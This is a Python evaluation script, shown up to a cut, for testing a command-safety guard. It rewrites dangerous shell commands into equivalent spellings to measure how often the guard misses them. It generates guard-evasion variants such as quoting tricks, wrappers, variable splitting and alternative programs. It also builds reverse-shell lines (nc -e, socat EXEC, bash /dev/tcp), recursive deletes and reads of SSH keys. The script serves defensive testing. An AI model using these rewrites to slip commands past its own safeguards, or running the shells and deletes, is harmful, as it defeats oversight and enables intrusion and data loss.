#!/usr/bin/env python3
"""Metamorphic generalisation check: meaning-preserving rewrites of the outside set's DEV rows, judged in-process.

usage: python eval/metamorphic.py [--json] [--examples N] [--benign N] [--seed S] [--only NAME,...]
                                  [--family respell|programs|cross|all]

Three families: `respell` (this file: the same program, spelled another way), `programs`
(eval/metamorphic_programs.py: the same effect through another program or route, applied by the row's class;
every rewrite that fits is kept, and the benign side gets every program rewrite whatever its class) and `cross`
(eval/metamorphic_cross.py: the held-out miss classes reached through other clients, SDKs and routes: REST DELETE
in other languages, cloud CLIs as SDK calls, secrets through archives/copies/encodings, rm run by other programs'
command runners, octal modes spelled symbolically, fork bombs in other languages; applied as `programs` is).

Rules fit the spellings they were written against; held-out sets show it (eval/score_outside.py: the held-out
miss rate is many times the dev one) without saying where.  This script measures the same gap on the DEV split
only (never the held-out rows, see eval/outside/HELDOUT.md): every dangerous dev row clearance denies or asks
today is rewritten by small named transformations that keep its meaning (another spelling of an option, of a
path, a wrapper that runs its argument unchanged, another program with the same effect), and each rewrite is
judged the way score_outside.py judges a case (decide_event_full, HOME=/home/dev, local_files=False).

A rewrite is WEAKER when its verdict ranks below its original's (deny > ask > allow):
  weakened   deny->allow or ask->allow   (a miss the dev figures hide)
  softened   deny->ask                   (lesser; listed apart)
The ordinary side: benign dev rows allowed today, rewritten the same way; a rewrite that becomes ask or deny is
STRICTER (friction or a false deny the rule's spelling caused).

Each transformation is a function ``t_<name>(words, cmd) -> list[str]`` with examples in its docstring; it
returns the rewritten command lines (empty when it does not apply).  ``words`` are the raw shell words of a
simple command (quotes kept) or None when the line is compound (pipes, lists, redirections, substitutions); only
the ``compound`` transformations apply then.  Option rewrites use clearance's own option grammar
(clearance.shell.optables) where it has the program; otherwise only forms the program documents.

Deterministic: rows in file order, at most --per rewrites per transformation and row, chosen by a fixed seed.
"""

from __future__ import annotations

import argparse
import collections
import itertools
import json
import random
import re
import shlex
import sys
import time
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "eval"))
sys.path.insert(0, str(ROOT / "src"))

from metamorphic_cross import CROSS, cross_rewrites  # noqa: E402
from metamorphic_programs import PROGRAMS, program_rewrites  # noqa: E402
from score_outside import ENV, OUTSIDE, event_of, is_heldout, load  # noqa: E402

HOME = ENV["HOME"]
USER = HOME.rsplit("/", 1)[-1]
RANK = {"allow": 0, "ask": 1, "deny": 2}
SHELL_BUILTINS = frozenset(
    ["cd", "echo", "export", "set", "unset", "source", ".", "eval", "exec", "read", "printf", "test", "[", "true", "false"]
    + ["alias", "type", "hash", "ulimit", "umask", "trap", "wait", "kill"]
)
_SAFE = re.compile(r"^[A-Za-z0-9_@%+=:,./-]+$")


# ---------------------------------------------------------------------------------------------- shell words


def split_words(cmd: str) -> list[str] | None:
    """The raw words of a simple command (quotes kept), or None when the line is not one simple command.

    >>> split_words("rm -rf 'a b' ~/x")
    ['rm', '-rf', "'a b'", '~/x']
    >>> split_words("a && b") is None
    True
    """
    if "\n" in cmd or "`" in cmd or "$(" in cmd or "<(" in cmd or ">(" in cmd:
        return None
    words: list[str] = []
    cur = ""
    i, n = 0, len(cmd)
    while i < n:
        ch = cmd[i]
        if ch == "\\" and i + 1 < n:
            cur += cmd[i : i + 2]
            i += 2
            continue
        if ch == "'":
            j = cmd.find("'", i + 1)
            if j < 0:
                return None
            cur += cmd[i : j + 1]
            i = j + 1
            continue
        if ch == '"':
            j = i + 1
            while j < n and cmd[j] != '"':
                j += 2 if cmd[j] == "\\" else 1
            if j >= n:
                return None
            cur += cmd[i : j + 1]
            i = j + 1
            continue
        if ch in ";&|<>(){}":
            return None
        if ch in " \t":
            if cur:
                words.append(cur)
                cur = ""
            i += 1
            continue
        if ch == "#" and not cur:
            return None
        cur += ch
        i += 1
    if cur:
        words.append(cur)
    return words or None


def value(word: str) -> str | None:
    """The word's value after quote removal, or None when it expands (a variable, a glob, a ~)."""
    if any(c in word for c in "$*?[~"):
        return None
    try:
        got = shlex.split(word)
    except ValueError:
        return None
    return got[0] if len(got) == 1 else None


def q(text: str) -> str:
    return text if _SAFE.match(text) else shlex.quote(text)


def join(words: list[str]) -> str:
    return " ".join(words)


def assignments(words: list[str]) -> int:
    """How many leading VAR=value words there are."""
    k = 0
    while k < len(words) and re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", words[k]):
        k += 1
    return k


def program_at(words: list[str]) -> tuple[int, str] | None:
    k = assignments(words)
    if k >= len(words):
        return None
    name = value(words[k])
    return (k, name) if name else None


# ---------------------------------------------------------------------------------------------- option grammar


def _level_walk(words: list[str]) -> list[tuple[int, object]]:
    """(index, Spec) for each word after the program, with the table in force at that word (subcommands descended)."""
    from clearance.shell import options

    at = program_at(words)
    if at is None:
        return []
    k, name = at
    spec = options.spec_for(name.rsplit("/", 1)[-1])
    if spec is None:
        return []
    out: list[tuple[int, object]] = []
    i = k + 1
    while i < len(words):
        v = value(words[i])
        out.append((i, spec))
        if v is None:
            i += 1
            continue
        if v == "--":
            break
        if not v.startswith("-") and spec.has_subs:
            child = spec.child(v)
            if child is not None:
                spec = child
        i += 1
    return out


def _lookup(spec: object, long: str | None = None, short: str | None = None) -> object | None:
    from clearance.shell import options

    assert isinstance(spec, options.Spec)
    for s in (spec, spec.persistent):
        if s is None:
            continue
        if long is not None and long in s.longs:
            return s.longs[long]
        if short is not None and not s.go and short in s.shorts:
            return s.shorts[short]
    return None


def _names(spec: object, opt: object) -> tuple[list[str], list[str]]:
    """The long and short names of *opt* in *spec*."""
    from clearance.shell import options

    assert isinstance(spec, options.Spec)
    longs, shorts = [], []
    for s in (spec, spec.persistent):
        if s is None:
            continue
        longs += [n for n, o in s.longs.items() if o is opt]
        shorts += [n for n, o in s.shorts.items() if o is opt]
    return longs, shorts


def t_long_short(words: list[str], cmd: str) -> list[str]:
    """A long option in its short form and back, from clearance's option table of the program.

    rm --recursive --force x -> rm -r --force x ; kubectl delete ns a -n b -> kubectl delete ns a --namespace b
    """
    from clearance.shell.options import NONE, REQUIRED

    out = []
    for i, spec in _level_walk(words):
        v = value(words[i])
        if not v or not v.startswith("-") or v == "-":
            continue
        if v.startswith("--"):
            body, eq, val = v[2:].partition("=")
            opt = _lookup(spec, long=body)
            if opt is None:
                continue
            _, shorts = _names(spec, opt)
            if not shorts:
                continue
            if eq:
                if opt.arg != REQUIRED:  # type: ignore[attr-defined]
                    continue
                new = [f"-{shorts[0]}", q(val)]
            else:
                new = [f"-{shorts[0]}"]
            out.append(join(words[:i] + new + words[i + 1 :]))
        elif len(v) == 2:
            opt = _lookup(spec, short=v[1])
            if opt is None:
                continue
            longs, _ = _names(spec, opt)
            if longs and (opt.arg in (NONE, REQUIRED)):  # type: ignore[attr-defined]
                out.append(join(words[:i] + [f"--{longs[0]}"] + words[i + 1 :]))
    return out


def t_opt_equals(words: list[str], cmd: str) -> list[str]:
    """`--opt v` <-> `--opt=v` for a long option that takes a value (program's table, else curl/aws/gcloud docs).

    kubectl delete ns x --namespace y -> kubectl delete ns x --namespace=y ; aws s3 rm --profile=p s3://b -> --profile p
    """
    from clearance.shell.options import REQUIRED

    out = []
    walk = _level_walk(words)
    modelled = bool(walk)
    at = program_at(words)
    prog = at[1].rsplit("/", 1)[-1] if at else ""
    # Programs whose docs give both forms for every long option taking a value (getopt_long, cobra, argparse, Go's flag).
    documented = prog in ("aws", "gcloud", "az", "gsutil", "helm", "curl", "wget", "psql", "mysql", "redis-cli", "mongosh")
    idx = [i for i, _ in walk] if modelled else list(range(1 + (at[0] if at else 0), len(words)))
    specs = dict(walk)
    for i in idx:
        v = value(words[i])
        if not v or not v.startswith("--") or len(v) < 4:
            continue
        body, eq, val = v[2:].partition("=")
        if modelled:
            opt = _lookup(specs[i], long=body)
            if opt is None or opt.arg != REQUIRED:  # type: ignore[attr-defined]
                continue
        elif not documented:
            continue
        if eq:
            out.append(join(words[:i] + [f"--{body}", q(val)] + words[i + 1 :]))
        elif i + 1 < len(words) and not words[i + 1].startswith("-"):
            nxt = value(words[i + 1])
            if nxt is None and modelled is False:
                continue
            out.append(join(words[:i] + [f"--{body}={words[i + 1]}"] + words[i + 2 :]))
    return out


def _boolean_shorts(words: list[str]) -> list[tuple[int, object, str]]:
    from clearance.shell.options import NONE

    got = []
    for i, spec in _level_walk(words):
        v = value(words[i])
        if v and re.match(r"^-[A-Za-z0-9]+$", v):
            if all((o := _lookup(spec, short=c)) is not None and o.arg == NONE for c in v[1:]):  # type: ignore[attr-defined]
                got.append((i, spec, v))
    return got


def t_cluster(words: list[str], cmd: str) -> list[str]:
    """Clustered short flags split, separate ones clustered (flags that take no value, from the program's table).

    rm -rf x -> rm -r -f x ; rm -r -f x -> rm -rf x ; git push -f -q -> git push -fq
    """
    out = []
    flags = _boolean_shorts(words)
    for i, _, v in flags:
        if len(v) > 2:
            out.append(join(words[:i] + [f"-{c}" for c in v[1:]] + words[i + 1 :]))
    for (i, _, v), (j, _, w) in itertools.pairwise(flags):
        if j == i + 1:
            out.append(join(words[:i] + [v + w[1:]] + words[j + 1 :]))
    return out


def t_reorder(words: list[str], cmd: str) -> list[str]:
    """Options moved: a run of flags reversed, and flags after the operands where the parser permutes (GNU getopt).

    rm -r -f x -> rm -f -r x ; rm -rf x -> rm x -rf ; chmod -R 777 d -> chmod 777 d -R
    """
    out = []
    flags = _boolean_shorts(words)
    runs: list[list[int]] = []
    for i, _, _ in flags:
        if runs and runs[-1][-1] == i - 1:
            runs[-1].append(i)
        else:
            runs.append([i])
    for run in runs:
        if len(run) > 1:
            w = list(words)
            w[run[0] : run[-1] + 1] = reversed(words[run[0] : run[-1] + 1])
            out.append(join(w))
    at = program_at(words)
    gnu = ("rm", "chmod", "chown", "chgrp", "cp", "mv", "shred", "ln", "rmdir", "truncate")
    if at and at[1].rsplit("/", 1)[-1] in gnu and flags and "--" not in words:
        i, spec, _ = flags[0]
        from clearance.shell import options

        if isinstance(spec, options.Spec) and not spec.stop and i + 1 < len(words):
            out.append(join(words[:i] + words[i + 1 :] + [words[i]]))
    return out


# ---------------------------------------------------------------------------------------------- quoting


def t_quote_single(words: list[str], cmd: str) -> list[str]:
    """Operands and program in single quotes: rm -rf /etc -> 'rm' -rf '/etc'."""
    k = assignments(words)
    w = words[:k] + [f"'{v}'" if (v := value(x)) and "'" not in v and not v.startswith("-") else x for x in words[k:]]
    return [join(w)] if w != words else []


def t_quote_double(words: list[str], cmd: str) -> list[str]:
    """Operands in double quotes: chmod 777 /etc -> chmod "777" "/etc"; ~/x -> "$HOME/x" (a quoted ~ would not expand)."""
    k = assignments(words)
    w = words[:k]
    for x in words[k:]:
        v = value(x)
        if v and not v.startswith("-") and not any(c in v for c in '"$`\\!'):
            w.append(f'"{v}"')
        elif x.startswith("~/") and value(x[1:]) is not None:
            w.append(f'"$HOME{x[1:]}"')
        else:
            w.append(x)
    return [join(w)] if w != words else []


def t_backslash(words: list[str], cmd: str) -> list[str]:
    """A backslash before a letter of the program and of an operand: rm -rf x -> r\\m -rf \\x."""
    out = []
    at = program_at(words)
    if at:
        k, name = at
        if len(name) > 1 and _SAFE.match(name) and "=" not in name:
            out.append(join(words[:k] + [name[0] + "\\" + name[1:]] + words[k + 1 :]))
    w = [("\\" + v) if (v := value(x)) and v[:1].isalpha() and _SAFE.match(v) and i > (at[0] if at else 0) else x for i, x in enumerate(words)]
    if w != words:
        out.append(join(w))
    return out


def t_ansi_c(words: list[str], cmd: str) -> list[str]:
    """$'...' quoting (bash): rm -rf /etc -> $'rm' -rf $'/etc'."""
    k = assignments(words)
    w = words[:k] + [f"$'{v}'" if (v := value(x)) and not v.startswith("-") and "'" not in v and "\\" not in v else x for x in words[k:]]
    return [join(w)] if w != words else []


# ---------------------------------------------------------------------------------------------- paths


_HOMEISH = re.compile(r"^(~|\$HOME|\$\{HOME\}|" + re.escape(HOME) + r")(?=/|$)")


def t_home_spelling(words: list[str], cmd: str) -> list[str]:
    """The home directory spelled another way: ~/.ssh -> $HOME/.ssh, ${HOME}/.ssh, /home/dev/.ssh, "$HOME"/.ssh."""
    out = []
    for i, x in enumerate(words):
        m = _HOMEISH.match(x)
        if not m:
            continue
        rest = x[m.end() :]
        for sp in ("~", "$HOME", "${HOME}", HOME, '"$HOME"'):
            if sp != m.group(1):
                out.append(join(words[:i] + [sp + rest] + words[i + 1 :]))
    return out


_FILEPATH = re.compile(r"^[A-Za-z0-9_.@%+,/-]+$")


def t_path_spelling(words: list[str], cmd: str) -> list[str]:
    """The same path with `./`, `a/../`, `//` or `/./`, or a trailing `/` on the home directory.

    rm -rf /etc/x -> rm -rf //etc/x, rm -rf /etc/./x ; rm -rf / -> rm -rf /./ ; rm -rf ~ -> rm -rf ~/ ;
    cat ~/.ssh/id_rsa -> cat ~/project/../.ssh/id_rsa ; rm -rf src -> rm -rf ./src.
    Only operands that read as file paths (no `:`, no spaces; not an option, a URL or a host:path).
    """
    out = []
    at = program_at(words)
    start = (at[0] + 1) if at else 0
    for i in range(start, len(words)):
        x = words[i]
        if x.startswith("-") or "=" in x:
            continue
        m = _HOMEISH.match(x)
        if m and x == m.group(1):
            out.append(join(words[:i] + [x + "/"] + words[i + 1 :]))
            out.append(join(words[:i] + [x + "/project/.."] + words[i + 1 :]))
            continue
        if m and _FILEPATH.match(x[m.end() :] or "/"):
            rest = x[m.end() + 1 :]
            out.append(join(words[:i] + [f"{m.group(1)}/project/../{rest}"] + words[i + 1 :]))
            continue
        v = value(x)
        if not v or not _FILEPATH.match(v):
            continue
        if v == "/":
            out.append(join(words[:i] + ["/./"] + words[i + 1 :]))
        elif v.startswith("/"):
            out.append(join(words[:i] + ["/" + v] + words[i + 1 :]))
            head, _, tail = v.rstrip("/").rpartition("/")
            out.append(join(words[:i] + [f"{head}/./{tail}"] + words[i + 1 :]))
        elif "/" in v and not v.startswith("."):
            out.append(join(words[:i] + ["./" + v] + words[i + 1 :]))
    return out


# ---------------------------------------------------------------------------------------------- wrappers


def _wrap(prefix: list[str]) -> Callable[[list[str], str], list[str]]:
    def t(words: list[str], cmd: str) -> list[str]:
        k = assignments(words)
        if k >= len(words) or value(words[k]) in SHELL_BUILTINS:
            return []
        return [join(words[:k] + prefix + words[k:])]

    t.__doc__ = f"Run unchanged under `{' '.join(prefix)}`: rm -rf x -> {' '.join(prefix)} rm -rf x."
    return t


def t_xargs(words: list[str], cmd: str) -> list[str]:
    """The last operand fed through echo | xargs: rm -rf /etc -> echo /etc | xargs rm -rf (a one-word operand only)."""
    at = program_at(words)
    if not at or at[0] != 0 or len(words) < 3 or words[-1].startswith("-") or at[1] in SHELL_BUILTINS:
        return []
    # xargs splits its input at blanks and strips quotes: only a word that is one blank-free value, or a variable
    # (split the same way unquoted), reaches the program as it was.
    last = value(words[-1])
    if not (last and _FILEPATH.match(last)) and not re.match(r"^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$", words[-1]):
        return []
    return [f"echo {words[-1]} | xargs {join(words[:-1])}"]


def t_sh_c(words: list[str] | None, cmd: str) -> list[str]:
    """The whole line run by `sh -c '...'` (compound lines too): rm -rf x -> sh -c 'rm -rf x'."""
    return [f"sh -c {shlex.quote(cmd)}"]


def t_bash_lc(words: list[str] | None, cmd: str) -> list[str]:
    """The whole line run by `bash -lc '...'`: rm -rf x -> bash -lc 'rm -rf x'."""
    return [f"bash -lc {shlex.quote(cmd)}"]


def t_split_var(words: list[str], cmd: str) -> list[str]:
    """An operand set in a variable first: rm -rf ~ -> D=~; rm -rf "$D"; and the program: P=rm; $P -rf ~."""
    out = []
    at = program_at(words)
    if not at:
        return []
    k, name = at
    for i in range(len(words) - 1, k, -1):
        x = words[i]
        if not x.startswith("-") and "=" not in x and '"' not in x:
            out.append(f"D={x}; " + join(words[:i] + ['"$D"'] + words[i + 1 :]))
            break
    if name not in SHELL_BUILTINS and "/" not in name:
        out.append(f"P={name}; " + join(words[:k] + ["$P"] + words[k + 1 :]))
    return out


def t_full_path(words: list[str], cmd: str) -> list[str]:
    """The program by its full path: rm -rf x -> /usr/bin/rm -rf x (and /bin/rm)."""
    at = program_at(words)
    if not at or at[1] in SHELL_BUILTINS or "/" in at[1]:
        return []
    k, name = at
    return [join(words[:k] + [f"{d}/{name}"] + words[k + 1 :]) for d in ("/usr/bin", "/bin")]


# ---------------------------------------------------------------------------------------------- equivalent programs


def _vals(words: list[str]) -> list[str] | None:
    vs = [value(x) for x in words]
    return None if any(v is None for v in vs) else vs  # type: ignore[return-value]


def t_rm_find(words: list[str], cmd: str) -> list[str]:
    """rm -r[f] T... -> find T... -delete (and rm -r T... -> rm -r -- T... -> find -depth -exec rm -rf)."""
    at = program_at(words)
    if not at or at[1].rsplit("/", 1)[-1] != "rm":
        return []
    k = at[0]
    flags = [x for x in words[k + 1 :] if x.startswith("-")]
    targets = [x for x in words[k + 1 :] if not x.startswith("-")]
    rec = any(f in ("--recursive",) or (not f.startswith("--") and ("r" in f or "R" in f)) for f in flags)
    if not rec or not targets:
        return []
    return [join(["find"] + targets + ["-delete"]), join(["find"] + targets + ["-depth", "-exec", "rm", "-rf", "{}", "+"])]


_REMOTE = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:")


def t_copy_remote(words: list[str], cmd: str) -> list[str]:
    """A copy to another machine by another program: scp f h:p <-> rsync f h:p, and curl -T f scp://h/p."""
    vs = _vals(words)
    if not vs or len(vs) < 3:
        return []
    prog = vs[0]
    if prog not in ("scp", "rsync"):
        return []
    ops = [v for v in vs[1:] if not v.startswith("-")]
    if len(ops) != 2 or not _REMOTE.match(ops[1]) or _REMOTE.match(ops[0]):
        return []
    src, dst = ops
    host, _, path = dst.partition(":")
    rec = any(f.startswith("-") and not f.startswith("--") and ("r" in f or "a" in f) for f in vs[1:])
    out = [join(["rsync" if prog == "scp" else "scp"] + (["-r"] if rec else []) + [q(src), q(dst)])]
    if not rec:
        out.append(join(["curl", "-T", q(src), q(f"scp://{host.rsplit('@', 1)[-1]}/{path.lstrip('/')}")]))
    return out


def t_reverse_shell(words: list[str], cmd: str) -> list[str]:
    """nc -e SH host port <-> socat TCP:host:port EXEC:SH <-> SH -i >& /dev/tcp/host/port 0>&1."""
    vs = _vals(words)
    if not vs or vs[0] not in ("nc", "ncat", "netcat", "socat"):
        return []
    host = port = shell = None
    if vs[0] == "socat":
        for v in vs[1:]:
            low = v.lower()
            if low.startswith("tcp:") and low.count(":") == 2:
                _, host, port = v.split(":")
            elif low.startswith(("exec:", "system:")):
                shell = v.split(":", 1)[1].split(",")[0]
    else:
        ops: list[str] = []
        i = 1
        while i < len(vs):
            v = vs[i]
            if v in ("-e", "-c", "--exec", "--sh-exec") and i + 1 < len(vs):
                shell = vs[i + 1]
                i += 2
                continue
            if not v.startswith("-"):
                ops.append(v)
            i += 1
        if len(ops) == 2:
            host, port = ops
    if not (host and port and shell):
        return []
    out = [f"bash -c {shlex.quote(f'{shell} -i >& /dev/tcp/{host}/{port} 0>&1')}"]
    if vs[0] != "socat":
        out.append(join(["socat", q(f"TCP:{host}:{port}"), q(f"EXEC:{shell}")]))
    else:
        out.append(join(["nc", "-e", q(shell), q(host), q(port)]))
    return out


def t_cloud_delete(words: list[str], cmd: str) -> list[str]:
    """aws s3 rm s3://b --recursive <-> aws s3 rb s3://b --force; gsutil rm -r gs://b <-> gcloud storage rm -r gs://b;
    kubectl delete ns x <-> namespace x <-> namespaces x."""
    vs = _vals(words)
    if not vs:
        return []
    out = []
    if vs[:3] == ["aws", "s3", "rm"] and "--recursive" in vs:
        bucket = [v for v in vs[3:] if v.startswith("s3://")]
        if bucket and bucket[0].rstrip("/").count("/") == 2:
            out.append(join(["aws", "s3", "rb", q(bucket[0]), "--force"]))
    if vs[:3] == ["aws", "s3", "rb"] and "--force" in vs:
        bucket = [v for v in vs[3:] if v.startswith("s3://")]
        if bucket:
            out.append(join(["aws", "s3", "rm", q(bucket[0]), "--recursive"]))
    if vs[0] == "gsutil":
        rest = [v for v in vs[1:] if v not in ("-m",)]
        if rest[:1] == ["rm"] and any(f in ("-r", "-R", "-rf", "-fr") for f in rest):
            out.append(join(["gcloud", "storage", "rm", "--recursive"] + [q(v) for v in rest[1:] if not v.startswith("-")]))
        if rest[:1] == ["rb"]:
            out.append(join(["gcloud", "storage", "buckets", "delete"] + [q(v) for v in rest[1:] if not v.startswith("-")]))
    if vs[:3] == ["gcloud", "storage", "rm"]:
        out.append(join(["gsutil", "-m", "rm", "-r"] + [q(v) for v in vs[3:] if not v.startswith("-")]))
    if vs[:1] == ["kubectl"] and "delete" in vs:
        i = vs.index("delete")
        if i + 1 < len(vs) and vs[i + 1] in ("ns", "namespace", "namespaces"):
            for alt in ("ns", "namespace", "namespaces"):
                if alt != vs[i + 1]:
                    out.append(join(words[: i + 1] + [alt] + words[i + 2 :]))
    return out


_SQL_CLIENT = {"psql": ("-c", "--command"), "mysql": ("-e", "--execute"), "mariadb": ("-e", "--execute"), "sqlite3": ()}


def t_sql_channel(words: list[str], cmd: str) -> list[str]:
    """The same SQL by another channel: psql -c 'DROP TABLE t' -> echo 'DROP TABLE t' | psql; psql -f - <<EOF heredoc;
    psql <<< 'DROP TABLE t'; mysql -e likewise."""
    vs = _vals(words)
    if not vs or vs[0] not in _SQL_CLIENT or not _SQL_CLIENT[vs[0]]:
        return []
    flags = _SQL_CLIENT[vs[0]]
    for i, v in enumerate(vs):
        sql = None
        if v in flags and i + 1 < len(vs):
            sql, rest = vs[i + 1], words[:i] + words[i + 2 :]
        elif v.startswith(flags[1] + "="):
            sql, rest = v.split("=", 1)[1], words[:i] + words[i + 1 :]
        if sql is None:
            continue
        base = join(rest)
        return [
            f"echo {shlex.quote(sql)} | {base}",
            f"{base} -f - <<'EOF'\n{sql}\nEOF" if vs[0] == "psql" else f"{base} <<'EOF'\n{sql}\nEOF",
            f"{base} <<< {shlex.quote(sql)}",
        ]
    return []


_READERS = ("cat", "less", "more", "head", "tail", "bat", "nl")


def t_reader_equiv(words: list[str], cmd: str) -> list[str]:
    """A file shown by another program that prints it whole: cat F -> sed -n p F, awk 1 F, grep '' F, tail -n +1 F,
    base64 F, dd if=F status=none, cp F /dev/stdout, python3 -c 'print(open("F").read())'."""
    vs = _vals(words)
    if not vs or vs[0] not in _READERS or len(vs) != 2 or vs[1].startswith("-"):
        return []
    f = words[1]
    py = shlex.quote(f"print(open({json.dumps(vs[1])}).read())")
    return [
        f"sed -n p {f}",
        f"awk 1 {f}",
        f"grep '' {f}",
        f"tail -n +1 {f}",
        f"base64 {f}",
        f"dd if={f} status=none",
        f"cp {f} /dev/stdout",
        f"python3 -c {py}",
    ]


def t_interp_equiv(words: list[str], cmd: str) -> list[str]:
    """A recursive delete done by an interpreter's library: rm -rf D -> python3 -c 'import shutil; shutil.rmtree("D")',
    perl -MFile::Path -e 'rmtree("D")', node -e 'require("fs").rmSync("D", {recursive: true, force: true})'."""
    vs = _vals(words)
    if not vs or vs[0] != "rm":
        return []
    flags = [v for v in vs[1:] if v.startswith("-")]
    ops = [v for v in vs[1:] if not v.startswith("-")]
    if len(ops) != 1 or not any("r" in f.lower() or f == "--recursive" for f in flags):
        return []
    t = json.dumps(ops[0])
    return [
        "python3 -c " + shlex.quote(f"import shutil; shutil.rmtree({t})"),
        "perl -MFile::Path=remove_tree -e " + shlex.quote(f"remove_tree({t})"),
        "node -e " + shlex.quote(f'require("fs").rmSync({t}, {{recursive: true, force: true}})'),
    ]


def _octal_symbolic(mode: str) -> str | None:
    if not re.match(r"^0?[0-7]{3}$", mode):
        return None
    digits = mode[-3:]
    perms = ["".join(ch for bit, ch in ((4, "r"), (2, "w"), (1, "x")) if int(d) & bit) for d in digits]
    if perms[0] == perms[1] == perms[2]:
        return f"a={perms[0]}"
    return ",".join(f"{who}={p}" for who, p in zip("ugo", perms, strict=True))


def t_chmod_symbolic(words: list[str], cmd: str) -> list[str]:
    """An octal mode in its symbolic spelling (chmod(1)): chmod -R 777 d -> chmod -R a=rwx d; 0777; 644 -> u=rw,g=r,o=r."""
    at = program_at(words)
    if not at or at[1].rsplit("/", 1)[-1] != "chmod":
        return []
    out = []
    for i in range(at[0] + 1, len(words)):
        v = value(words[i])
        if v and not v.startswith("-"):
            sym = _octal_symbolic(v)
            if sym:
                out.append(join(words[:i] + [sym] + words[i + 1 :]))
                if len(v) == 3:
                    out.append(join(words[:i] + ["0" + v] + words[i + 1 :]))
            break
    return out


# Subcommand spellings the programs document as the same command.
_VERB_ALIASES: tuple[tuple[tuple[str, ...], ...], ...] = (
    (("helm", "uninstall"), ("helm", "delete"), ("helm", "del"), ("helm", "un")),
    (("docker", "rm"), ("docker", "container", "rm"), ("docker", "container", "remove")),
    (("docker", "volume", "rm"), ("docker", "volume", "remove")),
    (("docker", "rmi"), ("docker", "image", "rm"), ("docker", "image", "remove")),
    (("terraform", "destroy"), ("terraform", "apply", "-destroy"), ("tofu", "destroy")),
    (("git", "push", "--force"), ("git", "push", "-f")),
)


def t_verb_alias(words: list[str], cmd: str) -> list[str]:
    """A subcommand by another name the program documents: helm uninstall <-> helm delete; docker rm <-> docker container
    rm; terraform destroy <-> terraform apply -destroy; kubectl delete ns/x <-> ns x."""
    vs = _vals(words)
    if not vs:
        return []
    out = []
    for group in _VERB_ALIASES:
        for form in group:
            if tuple(vs[: len(form)]) == form:
                rest = words[len(form) :]
                out += [join(list(alt) + rest) for alt in group if alt != form]
                break
    if vs[:2] == ["kubectl", "delete"] and len(vs) >= 4 and not vs[2].startswith("-") and "/" not in vs[2] and not vs[3].startswith("-"):
        out.append(join(words[:2] + [f"{vs[2]}/{vs[3]}"] + words[4:]))
    return out


def t_sql_case(words: list[str], cmd: str) -> list[str]:
    """SQL keywords in another case, and with extra blanks: psql -c 'DROP TABLE t' -> psql -c 'drop   table t'."""
    vs = _vals(words)
    if not vs or vs[0] not in _SQL_CLIENT or not _SQL_CLIENT[vs[0]]:
        return []
    flags = _SQL_CLIENT[vs[0]]
    for i, v in enumerate(vs[:-1]):
        if v in flags:
            sql = vs[i + 1]
            lowered = re.sub(r"\b(DROP|TRUNCATE|DELETE|FROM|TABLE|DATABASE|SCHEMA|CASCADE)\b", lambda m: m.group(1).lower(), sql)
            spaced = re.sub(r"(?i)\b(drop|truncate|delete)\s+", lambda m: m.group(1) + "   ", sql)
            return [join(words[: i + 1] + [shlex.quote(x)] + words[i + 2 :]) for x in dict.fromkeys((lowered, spaced)) if x != sql]
    return []


# ---------------------------------------------------------------------------------------------- registry

SIMPLE: dict[str, Callable[[list[str], str], list[str]]] = {
    "long_short": t_long_short,
    "opt_equals": t_opt_equals,
    "cluster": t_cluster,
    "reorder": t_reorder,
    "quote_single": t_quote_single,
    "quote_double": t_quote_double,
    "backslash": t_backslash,
    "ansi_c": t_ansi_c,
    "home_spelling": t_home_spelling,
    "path_spelling": t_path_spelling,
    "wrap_command": _wrap(["command"]),
    "wrap_env": _wrap(["env"]),
    "wrap_nice": _wrap(["nice"]),
    "wrap_timeout": _wrap(["timeout", "60"]),
    "wrap_nohup": _wrap(["nohup"]),
    "wrap_sudo_same": _wrap(["sudo", "-u", USER]),
    "xargs": t_xargs,
    "split_var": t_split_var,
    "full_path": t_full_path,
    "rm_find": t_rm_find,
    "copy_remote": t_copy_remote,
    "reverse_shell": t_reverse_shell,
    "cloud_delete": t_cloud_delete,
    "sql_channel": t_sql_channel,
    "reader_equiv": t_reader_equiv,
    "interp_equiv": t_interp_equiv,
    "chmod_symbolic": t_chmod_symbolic,
    "verb_alias": t_verb_alias,
    "sql_case": t_sql_case,
}
COMPOUND: dict[str, Callable[[list[str] | None, str], list[str]]] = {"sh_c": t_sh_c, "bash_lc": t_bash_lc}
NAMES = list(SIMPLE) + list(COMPOUND)


def rewrites(cmd: str, rng: random.Random, per: int, only: set[str] | None = None) -> list[tuple[str, str]]:
    """(transformation, rewritten line) pairs for *cmd*, at most *per* per transformation, deterministic for a seed."""
    words = split_words(cmd)
    out: list[tuple[str, str]] = []
    for name in NAMES:
        if only and name not in only:
            continue
        if name in SIMPLE:
            if words is None:
                continue
            got = SIMPLE[name](words, cmd)
        else:
            got = COMPOUND[name](words, cmd)
        got = [g for g in dict.fromkeys(got) if g != cmd]
        if len(got) > per:
            got = rng.sample(got, per)
        out += [(name, g) for g in got]
    return out


# ---------------------------------------------------------------------------------------------- judging and report


def judge(cmd: str, case: dict[str, object]) -> tuple[str, list[str]]:
    from clearance.api import decide_event_full

    c = dict(case)
    c["tool_input"] = {"command": cmd}
    d = decide_event_full(event_of(c), dict(ENV), local_files=False)[0]
    return d.decision, list(d.rules)


def run(seed: int, per: int, n_benign: int, only: set[str] | None, family: str = "respell") -> dict[str, object]:
    cases = [c for c in load(sorted(OUTSIDE.glob("*.jsonl"))) if not is_heldout(str(c["id"])) and c["tool_name"] == "Bash"]
    t0 = time.perf_counter()
    dangerous, benign = [], []
    for c in cases:
        if c["label"] not in ("dangerous", "benign"):
            continue
        d, rules = judge(str(c["tool_input"]["command"]), c)  # type: ignore[index]
        if c["label"] == "dangerous" and d in ("deny", "ask"):
            dangerous.append((c, d, rules))
        elif c["label"] == "benign" and d == "allow":
            benign.append((c, d, rules))
    rng = random.Random(seed)
    if n_benign and len(benign) > n_benign:
        benign = rng.sample(benign, n_benign)
    per_t: dict[str, collections.Counter[str]] = collections.defaultdict(collections.Counter)
    by_rule: collections.Counter[str] = collections.Counter()
    by_class: collections.Counter[str] = collections.Counter()
    weakened: list[dict[str, object]] = []
    softened: list[dict[str, object]] = []
    stricter: list[dict[str, object]] = []
    for side, rows in (("dangerous", dangerous), ("benign", benign)):
        for c, d0, rules0 in rows:
            cmd = str(c["tool_input"]["command"])  # type: ignore[index]
            r = random.Random(f"{seed}:{c['id']}")
